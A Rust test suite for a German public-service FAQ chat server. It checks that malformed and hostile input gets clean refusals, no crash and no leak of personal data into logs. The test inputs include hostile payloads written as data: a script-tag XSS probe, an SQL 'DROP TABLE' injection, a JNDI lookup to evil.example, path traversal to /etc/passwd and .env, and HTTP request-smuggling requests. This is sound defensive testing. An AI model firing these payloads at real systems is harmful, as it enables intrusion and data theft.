//! Input that nobody means well with, or that went wrong on its way: an ordinary answer or a clear refusal, never a
//! fault of ours, never the end of the process, and nothing of it in a log.

use std::sync::Arc;

use auskunft_tests::own_config::OwnConfig;
use auskunft_tests::program::{Program, Running, Shared};
use auskunft_tests::visitor::{Answer, Visitor};
use auskunft_tests::wire::Wire;
use reqwest::Method;
use serde_json::{Value, json};

static SITE: Shared = Shared::new(|| Program::start().with_config(OwnConfig::without_rate_limit()));

/// The site, and a visitor of it.
async fn arrive() -> (Arc<Running>, Visitor) {
    let site = SITE.running().await;
    let visitor = Visitor::of(&site);
    (site, visitor)
}

/// The program lives, answers, and no part of it panicked.
async fn assert_unharmed(site: &Running) {
    let reply = Visitor::of(site).asks("Was brauche ich, um mein Auto umzumelden?").await;
    assert_eq!(reply["service"], "kfz-umschreibung", "{reply}");
    assert!(!site.log().contains("panicked"), "{}", site.log());
}

/// A question through every door: the API, the page without JavaScript, the suggestions.
async fn ask_everywhere(visitor: &Visitor, text: &str) -> [Answer; 3] {
    let api = visitor.asks_anything(text).await;
    let page = visitor.sends(visitor.request(Method::POST, "/chat").form(&[("text", text)])).await;
    let suggestions = visitor.request(Method::GET, "/api/v1/suggest").query(&[("q", text)]);
    [api, page, visitor.sends(suggestions).await]
}

fn shown(text: &str) -> String {
    text.chars().take(40).flat_map(char::escape_default).collect()
}

// --- words ----------------------------------------------------------------------------------------------------------

#[tokio::test]
async fn nothing_to_read_is_refused_with_words() {
    let (site, visitor) = arrive().await;
    for text in ["", " ", "\t\r\n", "\u{a0}\u{2003}\u{3000}"] {
        let answer = visitor.asks_anything(text).await;
        assert_eq!(answer.refusal(), (400, "empty_question".to_owned()), "{}", shown(text));
    }
    // What only looks empty is answered by saying so.
    for text in ["\u{200b}\u{200d}\u{feff}", "\u{202e}\u{2066}", "\u{0}", "\u{7f}\u{1b}"] {
        let answer = visitor.asks_anything(text).await;
        assert!([200, 400].contains(&answer.status), "{}: {}", shown(text), answer.status);
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn a_question_has_a_thousand_characters_whatever_their_bytes() {
    let (site, visitor) = arrive().await;
    for character in ["x", "ü", "🙈", "\u{301}"] {
        let answer = visitor.asks_anything(&character.repeat(1000)).await;
        assert_eq!(answer.status, 200, "1000 × {}: {}", shown(character), answer.text());
        let answer = visitor.asks_anything(&character.repeat(1001)).await;
        assert_eq!(answer.refusal(), (400, "question_too_long".to_owned()), "1001 × {}", shown(character));
    }
    for length in [20_000, 1024 * 1024] {
        let answer = visitor.asks_anything(&"x".repeat(length)).await;
        assert_eq!(answer.refusal(), (413, "body_too_large".to_owned()), "{length}");
        let form = visitor.request(Method::POST, "/chat").form(&[("text", "x".repeat(length))]);
        assert_eq!(visitor.sends(form).await.status, 413, "{length}");
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn strange_characters_are_answered() {
    let (site, visitor) = arrive().await;
    let marks = format!("a{}", "\u{301}\u{489}".repeat(250));
    for text in [
        "🙈🙉🙊",
        "a\u{0}b",
        "\u{1}\u{2}\u{1f}",
        "\u{202e}nedlemba otuA",
        "\u{2067}\u{2067}\u{2067}Auto",
        "\u{feff}Auto abmelden",
        "\u{fffe}\u{ffff}\u{10ffff}",
        &marks,
        "Ａｕｔｏ ａｂｍｅｌｄｅｎ",
        "A̶u̶t̶o̶",
        "Аutо аbmеldеn",
        "ﷺ",
        "<script>alert(1)</script>",
        "'; DROP TABLE services; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} %s %n %x",
        "x",
        "?",
        "Ich möchte\r\n\r\nHTTP/1.1 200 OK",
    ] {
        for answer in ask_everywhere(&visitor, text).await {
            assert_eq!(answer.status, 200, "{}: {}", shown(text), answer.text());
        }
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn other_ways_to_write_the_same_are_understood_the_same() {
    let (_site, visitor) = arrive().await;
    let plain = visitor.asks_anything("Führerschein umtauschen Frist").await.ok_json();
    assert_eq!(plain["service"], "fuehrerschein-umtausch");
    for text in [
        "Fu\u{308}hrerschein umtauschen Frist",
        "Fuehrerschein umtauschen Frist",
        "FÜHRERSCHEIN UMTAUSCHEN FRIST",
        "Führer\u{ad}schein umtauschen Frist",
        "Füh\u{200b}rerschein um\u{200d}tauschen Frist\u{feff}",
        "\u{202a}Führerschein\u{202c} umtauschen Frist",
        "Ｆührerschein　ｕｍｔａｕｓｃｈｅｎ　Ｆｒｉｓｔ",
        "Führerschein\u{0}umtauschen\u{0}Frist",
    ] {
        let reply = visitor.asks_anything(text).await.ok_json();
        assert_eq!((&reply["service"], &reply["facet"]), (&plain["service"], &plain["facet"]), "{}", shown(text));
    }
}

/// Trials 78 and 79: what a query parser would obey or die of is only words here.
#[tokio::test]
async fn search_syntax_is_plain_words() {
    const OPERATORS: [&str; 12] =
        ["*", "*:*", "status:draft", "/.*/", "AND ( \" * ~", "+(", "\\", "~", "^", "{}", "&& || !", "()"];
    // Letters may mean something: a class of driving licences, an "ID".
    const WITH_LETTERS: [&str; 9] = [
        "id:[* TO *]",
        "\"a b\"~999",
        "a^9e99",
        "IN [a]",
        "-x",
        "NOT a",
        "a AND OR NOT",
        "[a TO b}",
        "field:\"unclosed",
    ];
    let (site, visitor) = arrive().await;
    for text in OPERATORS.into_iter().chain(WITH_LETTERS) {
        for answer in ask_everywhere(&visitor, text).await {
            assert_eq!(answer.status, 200, "{text}: {}", answer.text());
        }
    }
    for text in OPERATORS {
        let reply = visitor.asks_anything(text).await.ok_json();
        assert_ne!(reply["kind"], "answer", "{text} asks for nothing: {reply}");
    }
    let with_words =
        visitor.asks_anything("service:*^9 AND (\"Führerschein umtauschen\"~3 Frist) NOT draft").await.ok_json();
    assert_eq!(with_words["service"], "fuehrerschein-umtausch", "{with_words}");
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn what_kills_a_query_parser_does_no_harm() {
    let (site, visitor) = arrive().await;
    for text in
        ["(".repeat(742), "(".repeat(1000), "+(".repeat(500), "NOT ".repeat(250), "\"".repeat(1000), "a:(^".repeat(250)]
    {
        for answer in ask_everywhere(&visitor, &text).await {
            assert_eq!(answer.status, 200, "{}…: {}", shown(&text), answer.text());
        }
    }
    for (piece, times) in [("(", 100_000), ("+(", 100_000), ("NOT ", 5000), ("\"", 100_000), ("wort ", 100_000)] {
        let answer = visitor.asks_anything(&piece.repeat(times)).await;
        assert!([400, 413].contains(&answer.status), "{piece} × {times}: {}", answer.status);
    }
    assert_unharmed(&site).await;
}

// --- JSON -----------------------------------------------------------------------------------------------------------

#[tokio::test]
async fn what_is_no_json_is_refused() {
    let (site, visitor) = arrive().await;
    let bodies: [&[u8]; 15] = [
        b"",
        b"{",
        b"{\"text\":",
        b"{\"text\":\"a\"}}",
        b"{'text':'a'}",
        b"text=a",
        b"\xff\xfe{\x00}\x00",
        b"\xef\xbb\xbf{\"text\":\"a\"}",
        b"{\"text\":\"\xc3\x28\"}",
        b"{\"text\":\"\xed\xa0\x80\"}",
        b"{\"text\":\"\\ud800\"}",
        b"{\"text\":\"\\udc00 \\ud800\"}",
        b"{\"text\":\"\\x41\"}",
        b"{\"text\":NaN}",
        b"{\"text\":\"line\nbreak\"}",
    ];
    for body in bodies {
        let answer = visitor.posts_raw("/api/v1/messages", body).await;
        assert_eq!(answer.refusal(), (400, "invalid_json".to_owned()), "{}", String::from_utf8_lossy(body));
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn json_of_another_shape_is_refused() {
    let (site, visitor) = arrive().await;
    for (body, code) in [
        ("{}", "missing_text"),
        ("{\"text\":null}", "missing_text"),
        ("{\"text\":7}", "invalid_request"),
        ("{\"text\":[\"a\"]}", "invalid_request"),
        ("{\"text\":{\"a\":1}}", "invalid_request"),
        ("{\"text\":\"a\",\"lang\":7}", "invalid_request"),
        ("{\"text\":\"a\",\"conversation\":{}}", "invalid_request"),
        ("[\"a\"]", "invalid_request"),
        ("\"a\"", "invalid_request"),
        ("null", "invalid_request"),
        ("1", "invalid_request"),
    ] {
        let answer = visitor.posts_raw("/api/v1/messages", body).await;
        assert_eq!(answer.refusal(), (400, code.to_owned()), "{body}");
    }
    for (body, path) in
        [("{\"helpful\":true}", "/api/v1/feedback"), ("[]", "/api/v1/feedback"), ("{", "/api/v1/feedback")]
    {
        assert_eq!(visitor.posts_raw(path, body).await.status, 400, "{body}");
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn deep_wide_and_doubled_json_is_refused_or_read_plainly() {
    let (site, visitor) = arrive().await;
    let many: Vec<String> = (0..900).map(|number| format!("\"k{number}\":0")).collect();
    for (what, body, statuses) in [
        ("deep lists", "[".repeat(10_000), &[400][..]),
        ("deep objects", "{\"a\":".repeat(3000), &[400]),
        (
            "deep in an unknown field",
            format!("{{\"text\":\"a\",\"x\":{}{}}}", "[".repeat(500), "]".repeat(500)),
            &[200, 400],
        ),
        ("a million brackets", "[".repeat(1_000_000), &[413]),
        ("wide", format!("{{\"text\":\"Auto\",{}}}", many.join(",")), &[200]),
        ("doubled keys", "{\"text\":\"Auto\",\"text\":\"Pizza\"}".to_owned(), &[200, 400]),
        ("a number beyond all", "{\"text\":\"Auto\",\"x\":1e999}".to_owned(), &[200, 400]),
        ("a long number", format!("{{\"text\":\"Auto\",\"x\":{}}}", "9".repeat(8000)), &[200, 400]),
        ("escaped NUL", "{\"text\":\"Au\\u0000to\"}".to_owned(), &[200, 400]),
        ("unknown fields", "{\"text\":\"Auto\",\"model\":\"x\",\"stream\":true}".to_owned(), &[200]),
    ] {
        let answer = visitor.posts_raw("/api/v1/messages", body).await;
        assert!(statuses.contains(&answer.status), "{what}: {} {}", answer.status, answer.text());
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn a_body_of_another_type_is_refused() {
    let (site, visitor) = arrive().await;
    for content_type in
        ["text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data", "", "json"]
    {
        let request = visitor.request(Method::POST, "/api/v1/messages").header("content-type", content_type);
        let answer = visitor.sends(request.body("{\"text\":\"Auto\"}")).await;
        assert_eq!(answer.refusal(), (415, "unsupported_media_type".to_owned()), "{content_type:?}");
    }
    for encoding in ["gzip", "br", "deflate", "identity, gzip"] {
        let request = visitor.request(Method::POST, "/api/v1/messages").header("content-encoding", encoding);
        let answer = visitor.sends(request.json(&json!({"text": "Auto"}))).await;
        assert_eq!(answer.refusal(), (415, "unsupported_media_type".to_owned()), "{encoding}");
    }
    let charset =
        visitor.request(Method::POST, "/api/v1/messages").header("content-type", "Application/JSON; charset=utf-8");
    assert_eq!(visitor.sends(charset.body("{\"text\":\"Auto\"}")).await.status, 200);
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn a_conversation_that_no_desk_wrote_is_refused() {
    let (site, visitor) = arrive().await;
    let slugs = ["kfz-umschreibung"; 7].join(",");
    for conversation in [
        "".to_owned(),
        "x".to_owned(),
        "2~s=kfz-umschreibung".to_owned(),
        "1~s=".to_owned(),
        "1~s=../../etc/passwd".to_owned(),
        "1~s=KFZ".to_owned(),
        "1~f=colour".to_owned(),
        "1~z=1".to_owned(),
        "1~l=not a language".to_owned(),
        format!("1~pc=:{slugs}"),
        (0..9).fold("1".to_owned(), |token, number| format!("{token}~a=a{number}:b")),
        "1~s=kfz-umschreibung\u{0}".to_owned(),
        format!("1~s={}", "a".repeat(1100)),
        "{\"s\":1}".to_owned(),
        "(".repeat(742),
    ] {
        let answer = visitor
            .posts("/api/v1/messages", &json!({"text": "und was kostet das?", "conversation": conversation}))
            .await;
        assert_eq!(answer.refusal(), (400, "invalid_conversation".to_owned()), "{}", shown(&conversation));
        let form = [("text", "und was kostet das?"), ("conversation", conversation.as_str())];
        let page = visitor.sends(visitor.request(Method::POST, "/chat").form(&form)).await;
        let expected = if conversation.is_empty() { 200 } else { 400 };
        assert_eq!(page.status, expected, "{}", shown(&conversation));
    }
    // Well written, but of things that are gone: it simply begins anew.
    for conversation in ["1~s=no-such-service~f=fee", "1~pc=:no-such,nor-this", "1~ps=no-question", "1~t=atlantis~pt="]
    {
        let body = json!({"text": "und was kostet das?", "conversation": conversation});
        let answer = visitor.posts("/api/v1/messages", &body).await;
        assert_eq!(answer.status, 200, "{conversation}: {}", answer.text());
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn an_unknown_language_is_answered_in_german() {
    let (site, visitor) = arrive().await;
    for language in ["tlh", "", "de-DE-x-private", "🙈", "../../etc", &"x".repeat(5000), "de_DE", "*"] {
        let body = json!({"text": "Führerschein umtauschen Frist", "lang": language});
        let reply = visitor.posts("/api/v1/messages", &body).await.ok_json();
        assert_eq!(reply["lang"], "de", "{}", shown(language));
        let greeting = visitor.request(Method::GET, "/api/v1/greeting").query(&[("lang", language)]);
        assert_eq!(visitor.sends(greeting).await.status, 200, "{}", shown(language));
    }
    for accepted in [";q=", "de;q=nan,en;q=-1,*;q=99999", &"x,".repeat(2000)] {
        let request = visitor.request(Method::GET, "/chat").header("accept-language", accepted);
        assert_eq!(visitor.sends(request).await.status, 200, "{}", shown(accepted));
    }
    assert_unharmed(&site).await;
}

// --- addresses and methods ------------------------------------------------------------------------------------------

/// Sends a request as it is written; no client tidies up its path.
async fn raw(site: &Running, request: impl AsRef<[u8]>) -> Vec<u16> {
    let mut wire = Wire::to(site);
    wire.sends(request);
    wire.hears().statuses()
}

#[tokio::test]
async fn paths_lead_nowhere_but_to_routes() {
    let (site, _) = arrive().await;
    for path in [
        "/static/../../etc/passwd",
        "/assets/../../../../etc/passwd",
        "/assets/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%5c..%5cetc",
        "//etc/passwd",
        "//evil.example/chat",
        "/widget.js/../../Cargo.toml",
        "/chat;jsessionid=1",
        "/chat/",
        "/chat%00",
        "/api/v1/services/..%2f..%2fetc",
        "/api/v1/services/%00",
        "/api/v1/services/%ff%fe",
        "/api/v1/offices/..%2f/hours",
        "/API/V1/SERVICES",
        "/.git/config",
        "/.env",
        "/config/auskunft.toml",
        "/data/key",
        "/%",
        "/%zz",
    ] {
        let statuses = raw(&site, format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")).await;
        assert!(statuses == [404] || statuses == [400], "{path}: {statuses:?}");
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn other_methods_are_refused_with_those_that_would_do() {
    let (site, visitor) = arrive().await;
    for (path, allowed) in [
        ("/api/v1/messages", "POST"),
        ("/api/v1/services", "GET, HEAD"),
        ("/chat", "GET, HEAD, POST"),
        ("/", "GET, HEAD"),
    ] {
        for method in ["PUT", "PATCH", "DELETE", "TRACE", "BREW", "PROPFIND"] {
            let method: Method = method.parse().expect("a method");
            let answer =
                visitor.sends(visitor.request(method.clone(), path).header("x-http-method-override", "GET")).await;
            assert_eq!((answer.status, answer.header("allow")), (405, allowed), "{method} {path}");
        }
    }
    let overridden = visitor.request(Method::GET, "/api/v1/messages").header("x-http-method-override", "POST");
    assert_eq!(visitor.sends(overridden).await.status, 405);
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn huge_heads_are_refused() {
    let (site, _) = arrive().await;
    let get = |rest: String| format!("GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{rest}\r\n");
    let cookies: String = (0..10_000).map(|number| format!("cookie: c{number}=1\r\n")).collect();
    let headers: String = (0..200).map(|number| format!("x-{number}: 1\r\n")).collect();
    for (what, request) in [
        ("a header of 140 kB", get(format!("x-long: {}\r\n", "a".repeat(140_000)))),
        ("200 headers", get(headers)),
        ("10,000 cookies", get(cookies)),
        (
            "an address of 70 kB",
            format!("GET /chat?lang={} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n", "a".repeat(70_000)),
        ),
    ] {
        let statuses = raw(&site, request).await;
        // A server that has heard enough may close before it has said so.
        assert!(statuses.iter().all(|status| [200, 400, 414, 431].contains(status)), "{what}: {statuses:?}");
    }
    assert_unharmed(&site).await;
}

#[tokio::test]
async fn requests_that_could_be_two_are_refused() {
    let (site, _) = arrive().await;
    let body = "{\"text\":\"Auto\"}";
    let head = "POST /api/v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
    for (what, request) in [
        (
            "both lengths",
            format!(
                "{head}content-length: {}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nhost: x\r\n\r\n",
                body.len()
            ),
        ),
        ("two lengths", format!("{head}content-length: 4\r\ncontent-length: {}\r\n\r\n{body}", body.len())),
        ("a negative length", format!("{head}content-length: -1\r\n\r\n{body}")),
        ("a length that is no number", format!("{head}content-length: +15\r\n\r\n{body}")),
        ("a length beyond all", format!("{head}content-length: 99999999999999999999999\r\n\r\n{body}")),
        ("an unknown coding", format!("{head}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n")),
        (
            "a chunk that lies",
            format!("{head}transfer-encoding: chunked\r\n\r\nffffffffffffffff1\r\n{body}\r\n0\r\n\r\n"),
        ),
        ("a name with a space", format!("{head}content-length : {}\r\n\r\n{body}", body.len())),
        ("no version", "GET /healthz\r\n\r\n".to_owned()),
        ("another protocol", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned()),
        ("a TLS hello", "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}".to_owned()),
    ] {
        let statuses = raw(&site, request).await;
        assert!(statuses.len() <= 1, "{what} is one request at most: {statuses:?}");
        assert!(statuses.iter().all(|status| (400..500).contains(status)), "{what}: {statuses:?}");
    }
    assert_unharmed(&site).await;
}

// --- bodies that do not end -----------------------------------------------------------------------------------------

#[tokio::test]
async fn an_endless_body_is_refused_at_once_and_cut_off() {
    const ENDLESS: usize = 8 * 1024 * 1024 * 1024;
    const CHUNK: usize = 0x1000;
    let (site, _) = arrive().await;
    let before = resident_bytes(&site);
    let mut floods = Vec::new();
    for (path, head) in [
        ("/api/v1/messages", "transfer-encoding: chunked"),
        ("/", "transfer-encoding: chunked"),
        ("/api/v1/messages", "content-length: 9000000000"),
    ] {
        let mut wire = Wire::to(&site);
        wire.sends(format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{head}\r\n\r\n"));
        let words = "a".repeat(CHUNK);
        let piece = if head.starts_with("transfer") { format!("{CHUNK:x}\r\n{words}\r\n") } else { words };
        floods.push((head, std::thread::spawn(move || wire.floods(piece.as_bytes(), ENDLESS))));
    }
    for (head, flood) in floods {
        let (echo, taken) = tokio::task::spawn_blocking(move || flood.join()).await.expect("joined").expect("heard");
        assert_eq!(echo.statuses(), [413], "{head}");
        assert!(taken < ENDLESS, "{head}: the server took everything");
    }
    let grown = resident_bytes(&site).saturating_sub(before);
    assert!(grown < 64 * 1024 * 1024, "it kept {grown} bytes");
    assert_unharmed(&site).await;
}

/// The memory the program holds.
fn resident_bytes(site: &Running) -> usize {
    let status = std::fs::read_to_string(format!("/proc/{}/status", site.id())).expect("the tests run on Linux");
    let resident = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).expect("it is told");
    let kilobytes: usize = resident.trim().trim_end_matches(" kB").parse().expect("a number");
    kilobytes * 1024
}

#[tokio::test]
async fn a_body_that_does_not_come_is_not_waited_for_for_ever() {
    let (site, _) = arrive().await;
    let mut waiting = Vec::new();
    for head in ["content-length: 20", "transfer-encoding: chunked"] {
        let mut wire = Wire::to(&site);
        let begin = if head.starts_with("transfer") { "5\r\n{\"tex" } else { "{\"tex" };
        wire.sends(format!(
            "POST /api/v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{head}\r\n\r\n{begin}"
        ));
        waiting.push(std::thread::spawn(move || wire.hears_while_open().text()));
    }
    assert_unharmed(&site).await;
    for waiting in waiting {
        let said = tokio::task::spawn_blocking(move || waiting.join()).await.expect("joined").expect("heard");
        assert!(said.starts_with("HTTP/1.1 408 "), "{said}");
        assert!(said.contains("\"slow_body\""), "{said}");
    }
}

// --- privacy --------------------------------------------------------------------------------------------------------

const CANARY: &str = "KANARI-7f3a";

#[tokio::test]
async fn what_somebody_writes_is_in_no_log_line_no_metric_and_no_file() {
    let config = OwnConfig::without_rate_limit();
    // Louder than any operator should have it: even then nothing of a person is told.
    let loud = "info,auskunft=trace,web_widget_server=trace,faq_engine=trace,faq_search=trace,faq_store_sled=trace";
    let site = Program::start().with_config(config).env("RUST_LOG", loud).ready().await;
    let visitor = Visitor::of(&site);
    let mut answers = Vec::new();
    for text in [
        format!("Mein Name ist {CANARY}, was kostet ein Jagdschein?"),
        format!("{CANARY}@example.org"),
        format!("{CANARY} {}", "x".repeat(1000)),
        format!("{CANARY}\u{0}\u{202e}((((("),
    ] {
        answers.extend(ask_everywhere(&visitor, &text).await);
    }
    answers.push(visitor.posts("/api/v1/messages", &json!({"text": "hallo", "conversation": CANARY})).await);
    answers.push(visitor.posts("/api/v1/messages", &json!({"text": "hallo", "lang": CANARY})).await);
    answers.push(visitor.posts("/api/v1/messages", &json!({"text": 1, CANARY: CANARY})).await);
    answers.push(visitor.posts_raw("/api/v1/messages", format!("{{\"text\":\"{CANARY}")).await);
    answers.push(visitor.posts_raw("/api/v1/messages", CANARY.repeat(9000)).await);
    let feedback = json!({"answer_id": CANARY, "helpful": true, "comment": CANARY});
    answers.push(visitor.posts("/api/v1/feedback", &feedback).await);
    let asked = visitor.asks_anything("Was kostet es, ein Auto abzumelden?").await.ok_json();
    let feedback = json!({"answer_id": asked["answer_id"], "helpful": false, "comment": CANARY});
    answers.push(visitor.posts("/api/v1/feedback", &feedback).await);
    for path in [
        format!("/{CANARY}"),
        format!("/api/v1/services/{CANARY}?lang={CANARY}"),
        format!("/api/v1/offices/{CANARY}/hours"),
        format!("/api/v1/appointments?service={CANARY}"),
        format!("/api/v1/offices/buergerservice/hours?from={CANARY}"),
        format!("/widget.{CANARY}.js"),
        format!("/chat?lang={CANARY}&x={CANARY}"),
        format!("/healthz?{CANARY}"),
    ] {
        let request = visitor.request(Method::GET, &path).header(CANARY, CANARY).header("user-agent", CANARY);
        let request = request.header("referer", format!("https://example.org/{CANARY}")).header("cookie", CANARY);
        let request =
            request.header("x-forwarded-for", CANARY).header("accept-language", CANARY).header("origin", CANARY);
        answers.push(visitor.sends(request).await);
    }
    let method: Method = CANARY.parse().expect("a token is a method");
    answers.push(visitor.sends(visitor.request(method, "/chat")).await);
    for request in [
        format!("GET /{CANARY} HTTP/9.9\r\n\r\n"),
        format!("POST /api/v1/messages HTTP/1.1\r\nhost: {CANARY}\r\ncontent-length: {CANARY}\r\n\r\n"),
        format!("{CANARY}\r\n\r\n"),
    ] {
        raw(&site, request).await;
    }
    assert!(answers.iter().all(|answer| answer.status < 500), "{answers:?}");
    let metrics = visitor.gets("/metrics").await.text();
    assert!(!metrics.to_lowercase().contains(&CANARY.to_lowercase()), "{metrics}");

    let data = tempfile::tempdir().expect("a folder");
    copy_files(site.data(), data.path());
    let log = site.log();
    assert!(log.contains("request answered"), "the log is as loud as it was told to be: {log}");
    let told: Vec<&str> = log.lines().filter(|line| line.to_lowercase().contains(&CANARY.to_lowercase())).collect();
    assert!(told.is_empty(), "{told:#?}");
    assert!(!log.contains("panicked"), "{log}");
    for entry in std::fs::read_dir(data.path()).expect("a folder") {
        let path = entry.expect("an entry").path();
        let bytes = std::fs::read(&path).expect("a file");
        let has_it = bytes.windows(CANARY.len()).any(|window| window.eq_ignore_ascii_case(CANARY.as_bytes()));
        assert!(!has_it, "{} keeps what somebody wrote", path.display());
    }
}

/// All files below a folder, next to each other.
fn copy_files(from: &std::path::Path, to: &std::path::Path) {
    for entry in std::fs::read_dir(from).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            copy_files(&path, to);
        } else if let Some(name) = path.file_name() {
            std::fs::copy(&path, to.join(name)).expect("copied");
        }
    }
}

#[tokio::test]
async fn a_reply_never_repeats_what_was_asked() {
    let (_site, visitor) = arrive().await;
    for text in [CANARY.to_owned(), format!("<b>{CANARY}</b> Führerschein"), format!("[{CANARY}](javascript:alert)")] {
        let answer = visitor.asks_anything(&text).await;
        let reply: Value = answer.ok_json();
        assert!(!reply.to_string().contains(CANARY), "{reply}");
    }
}
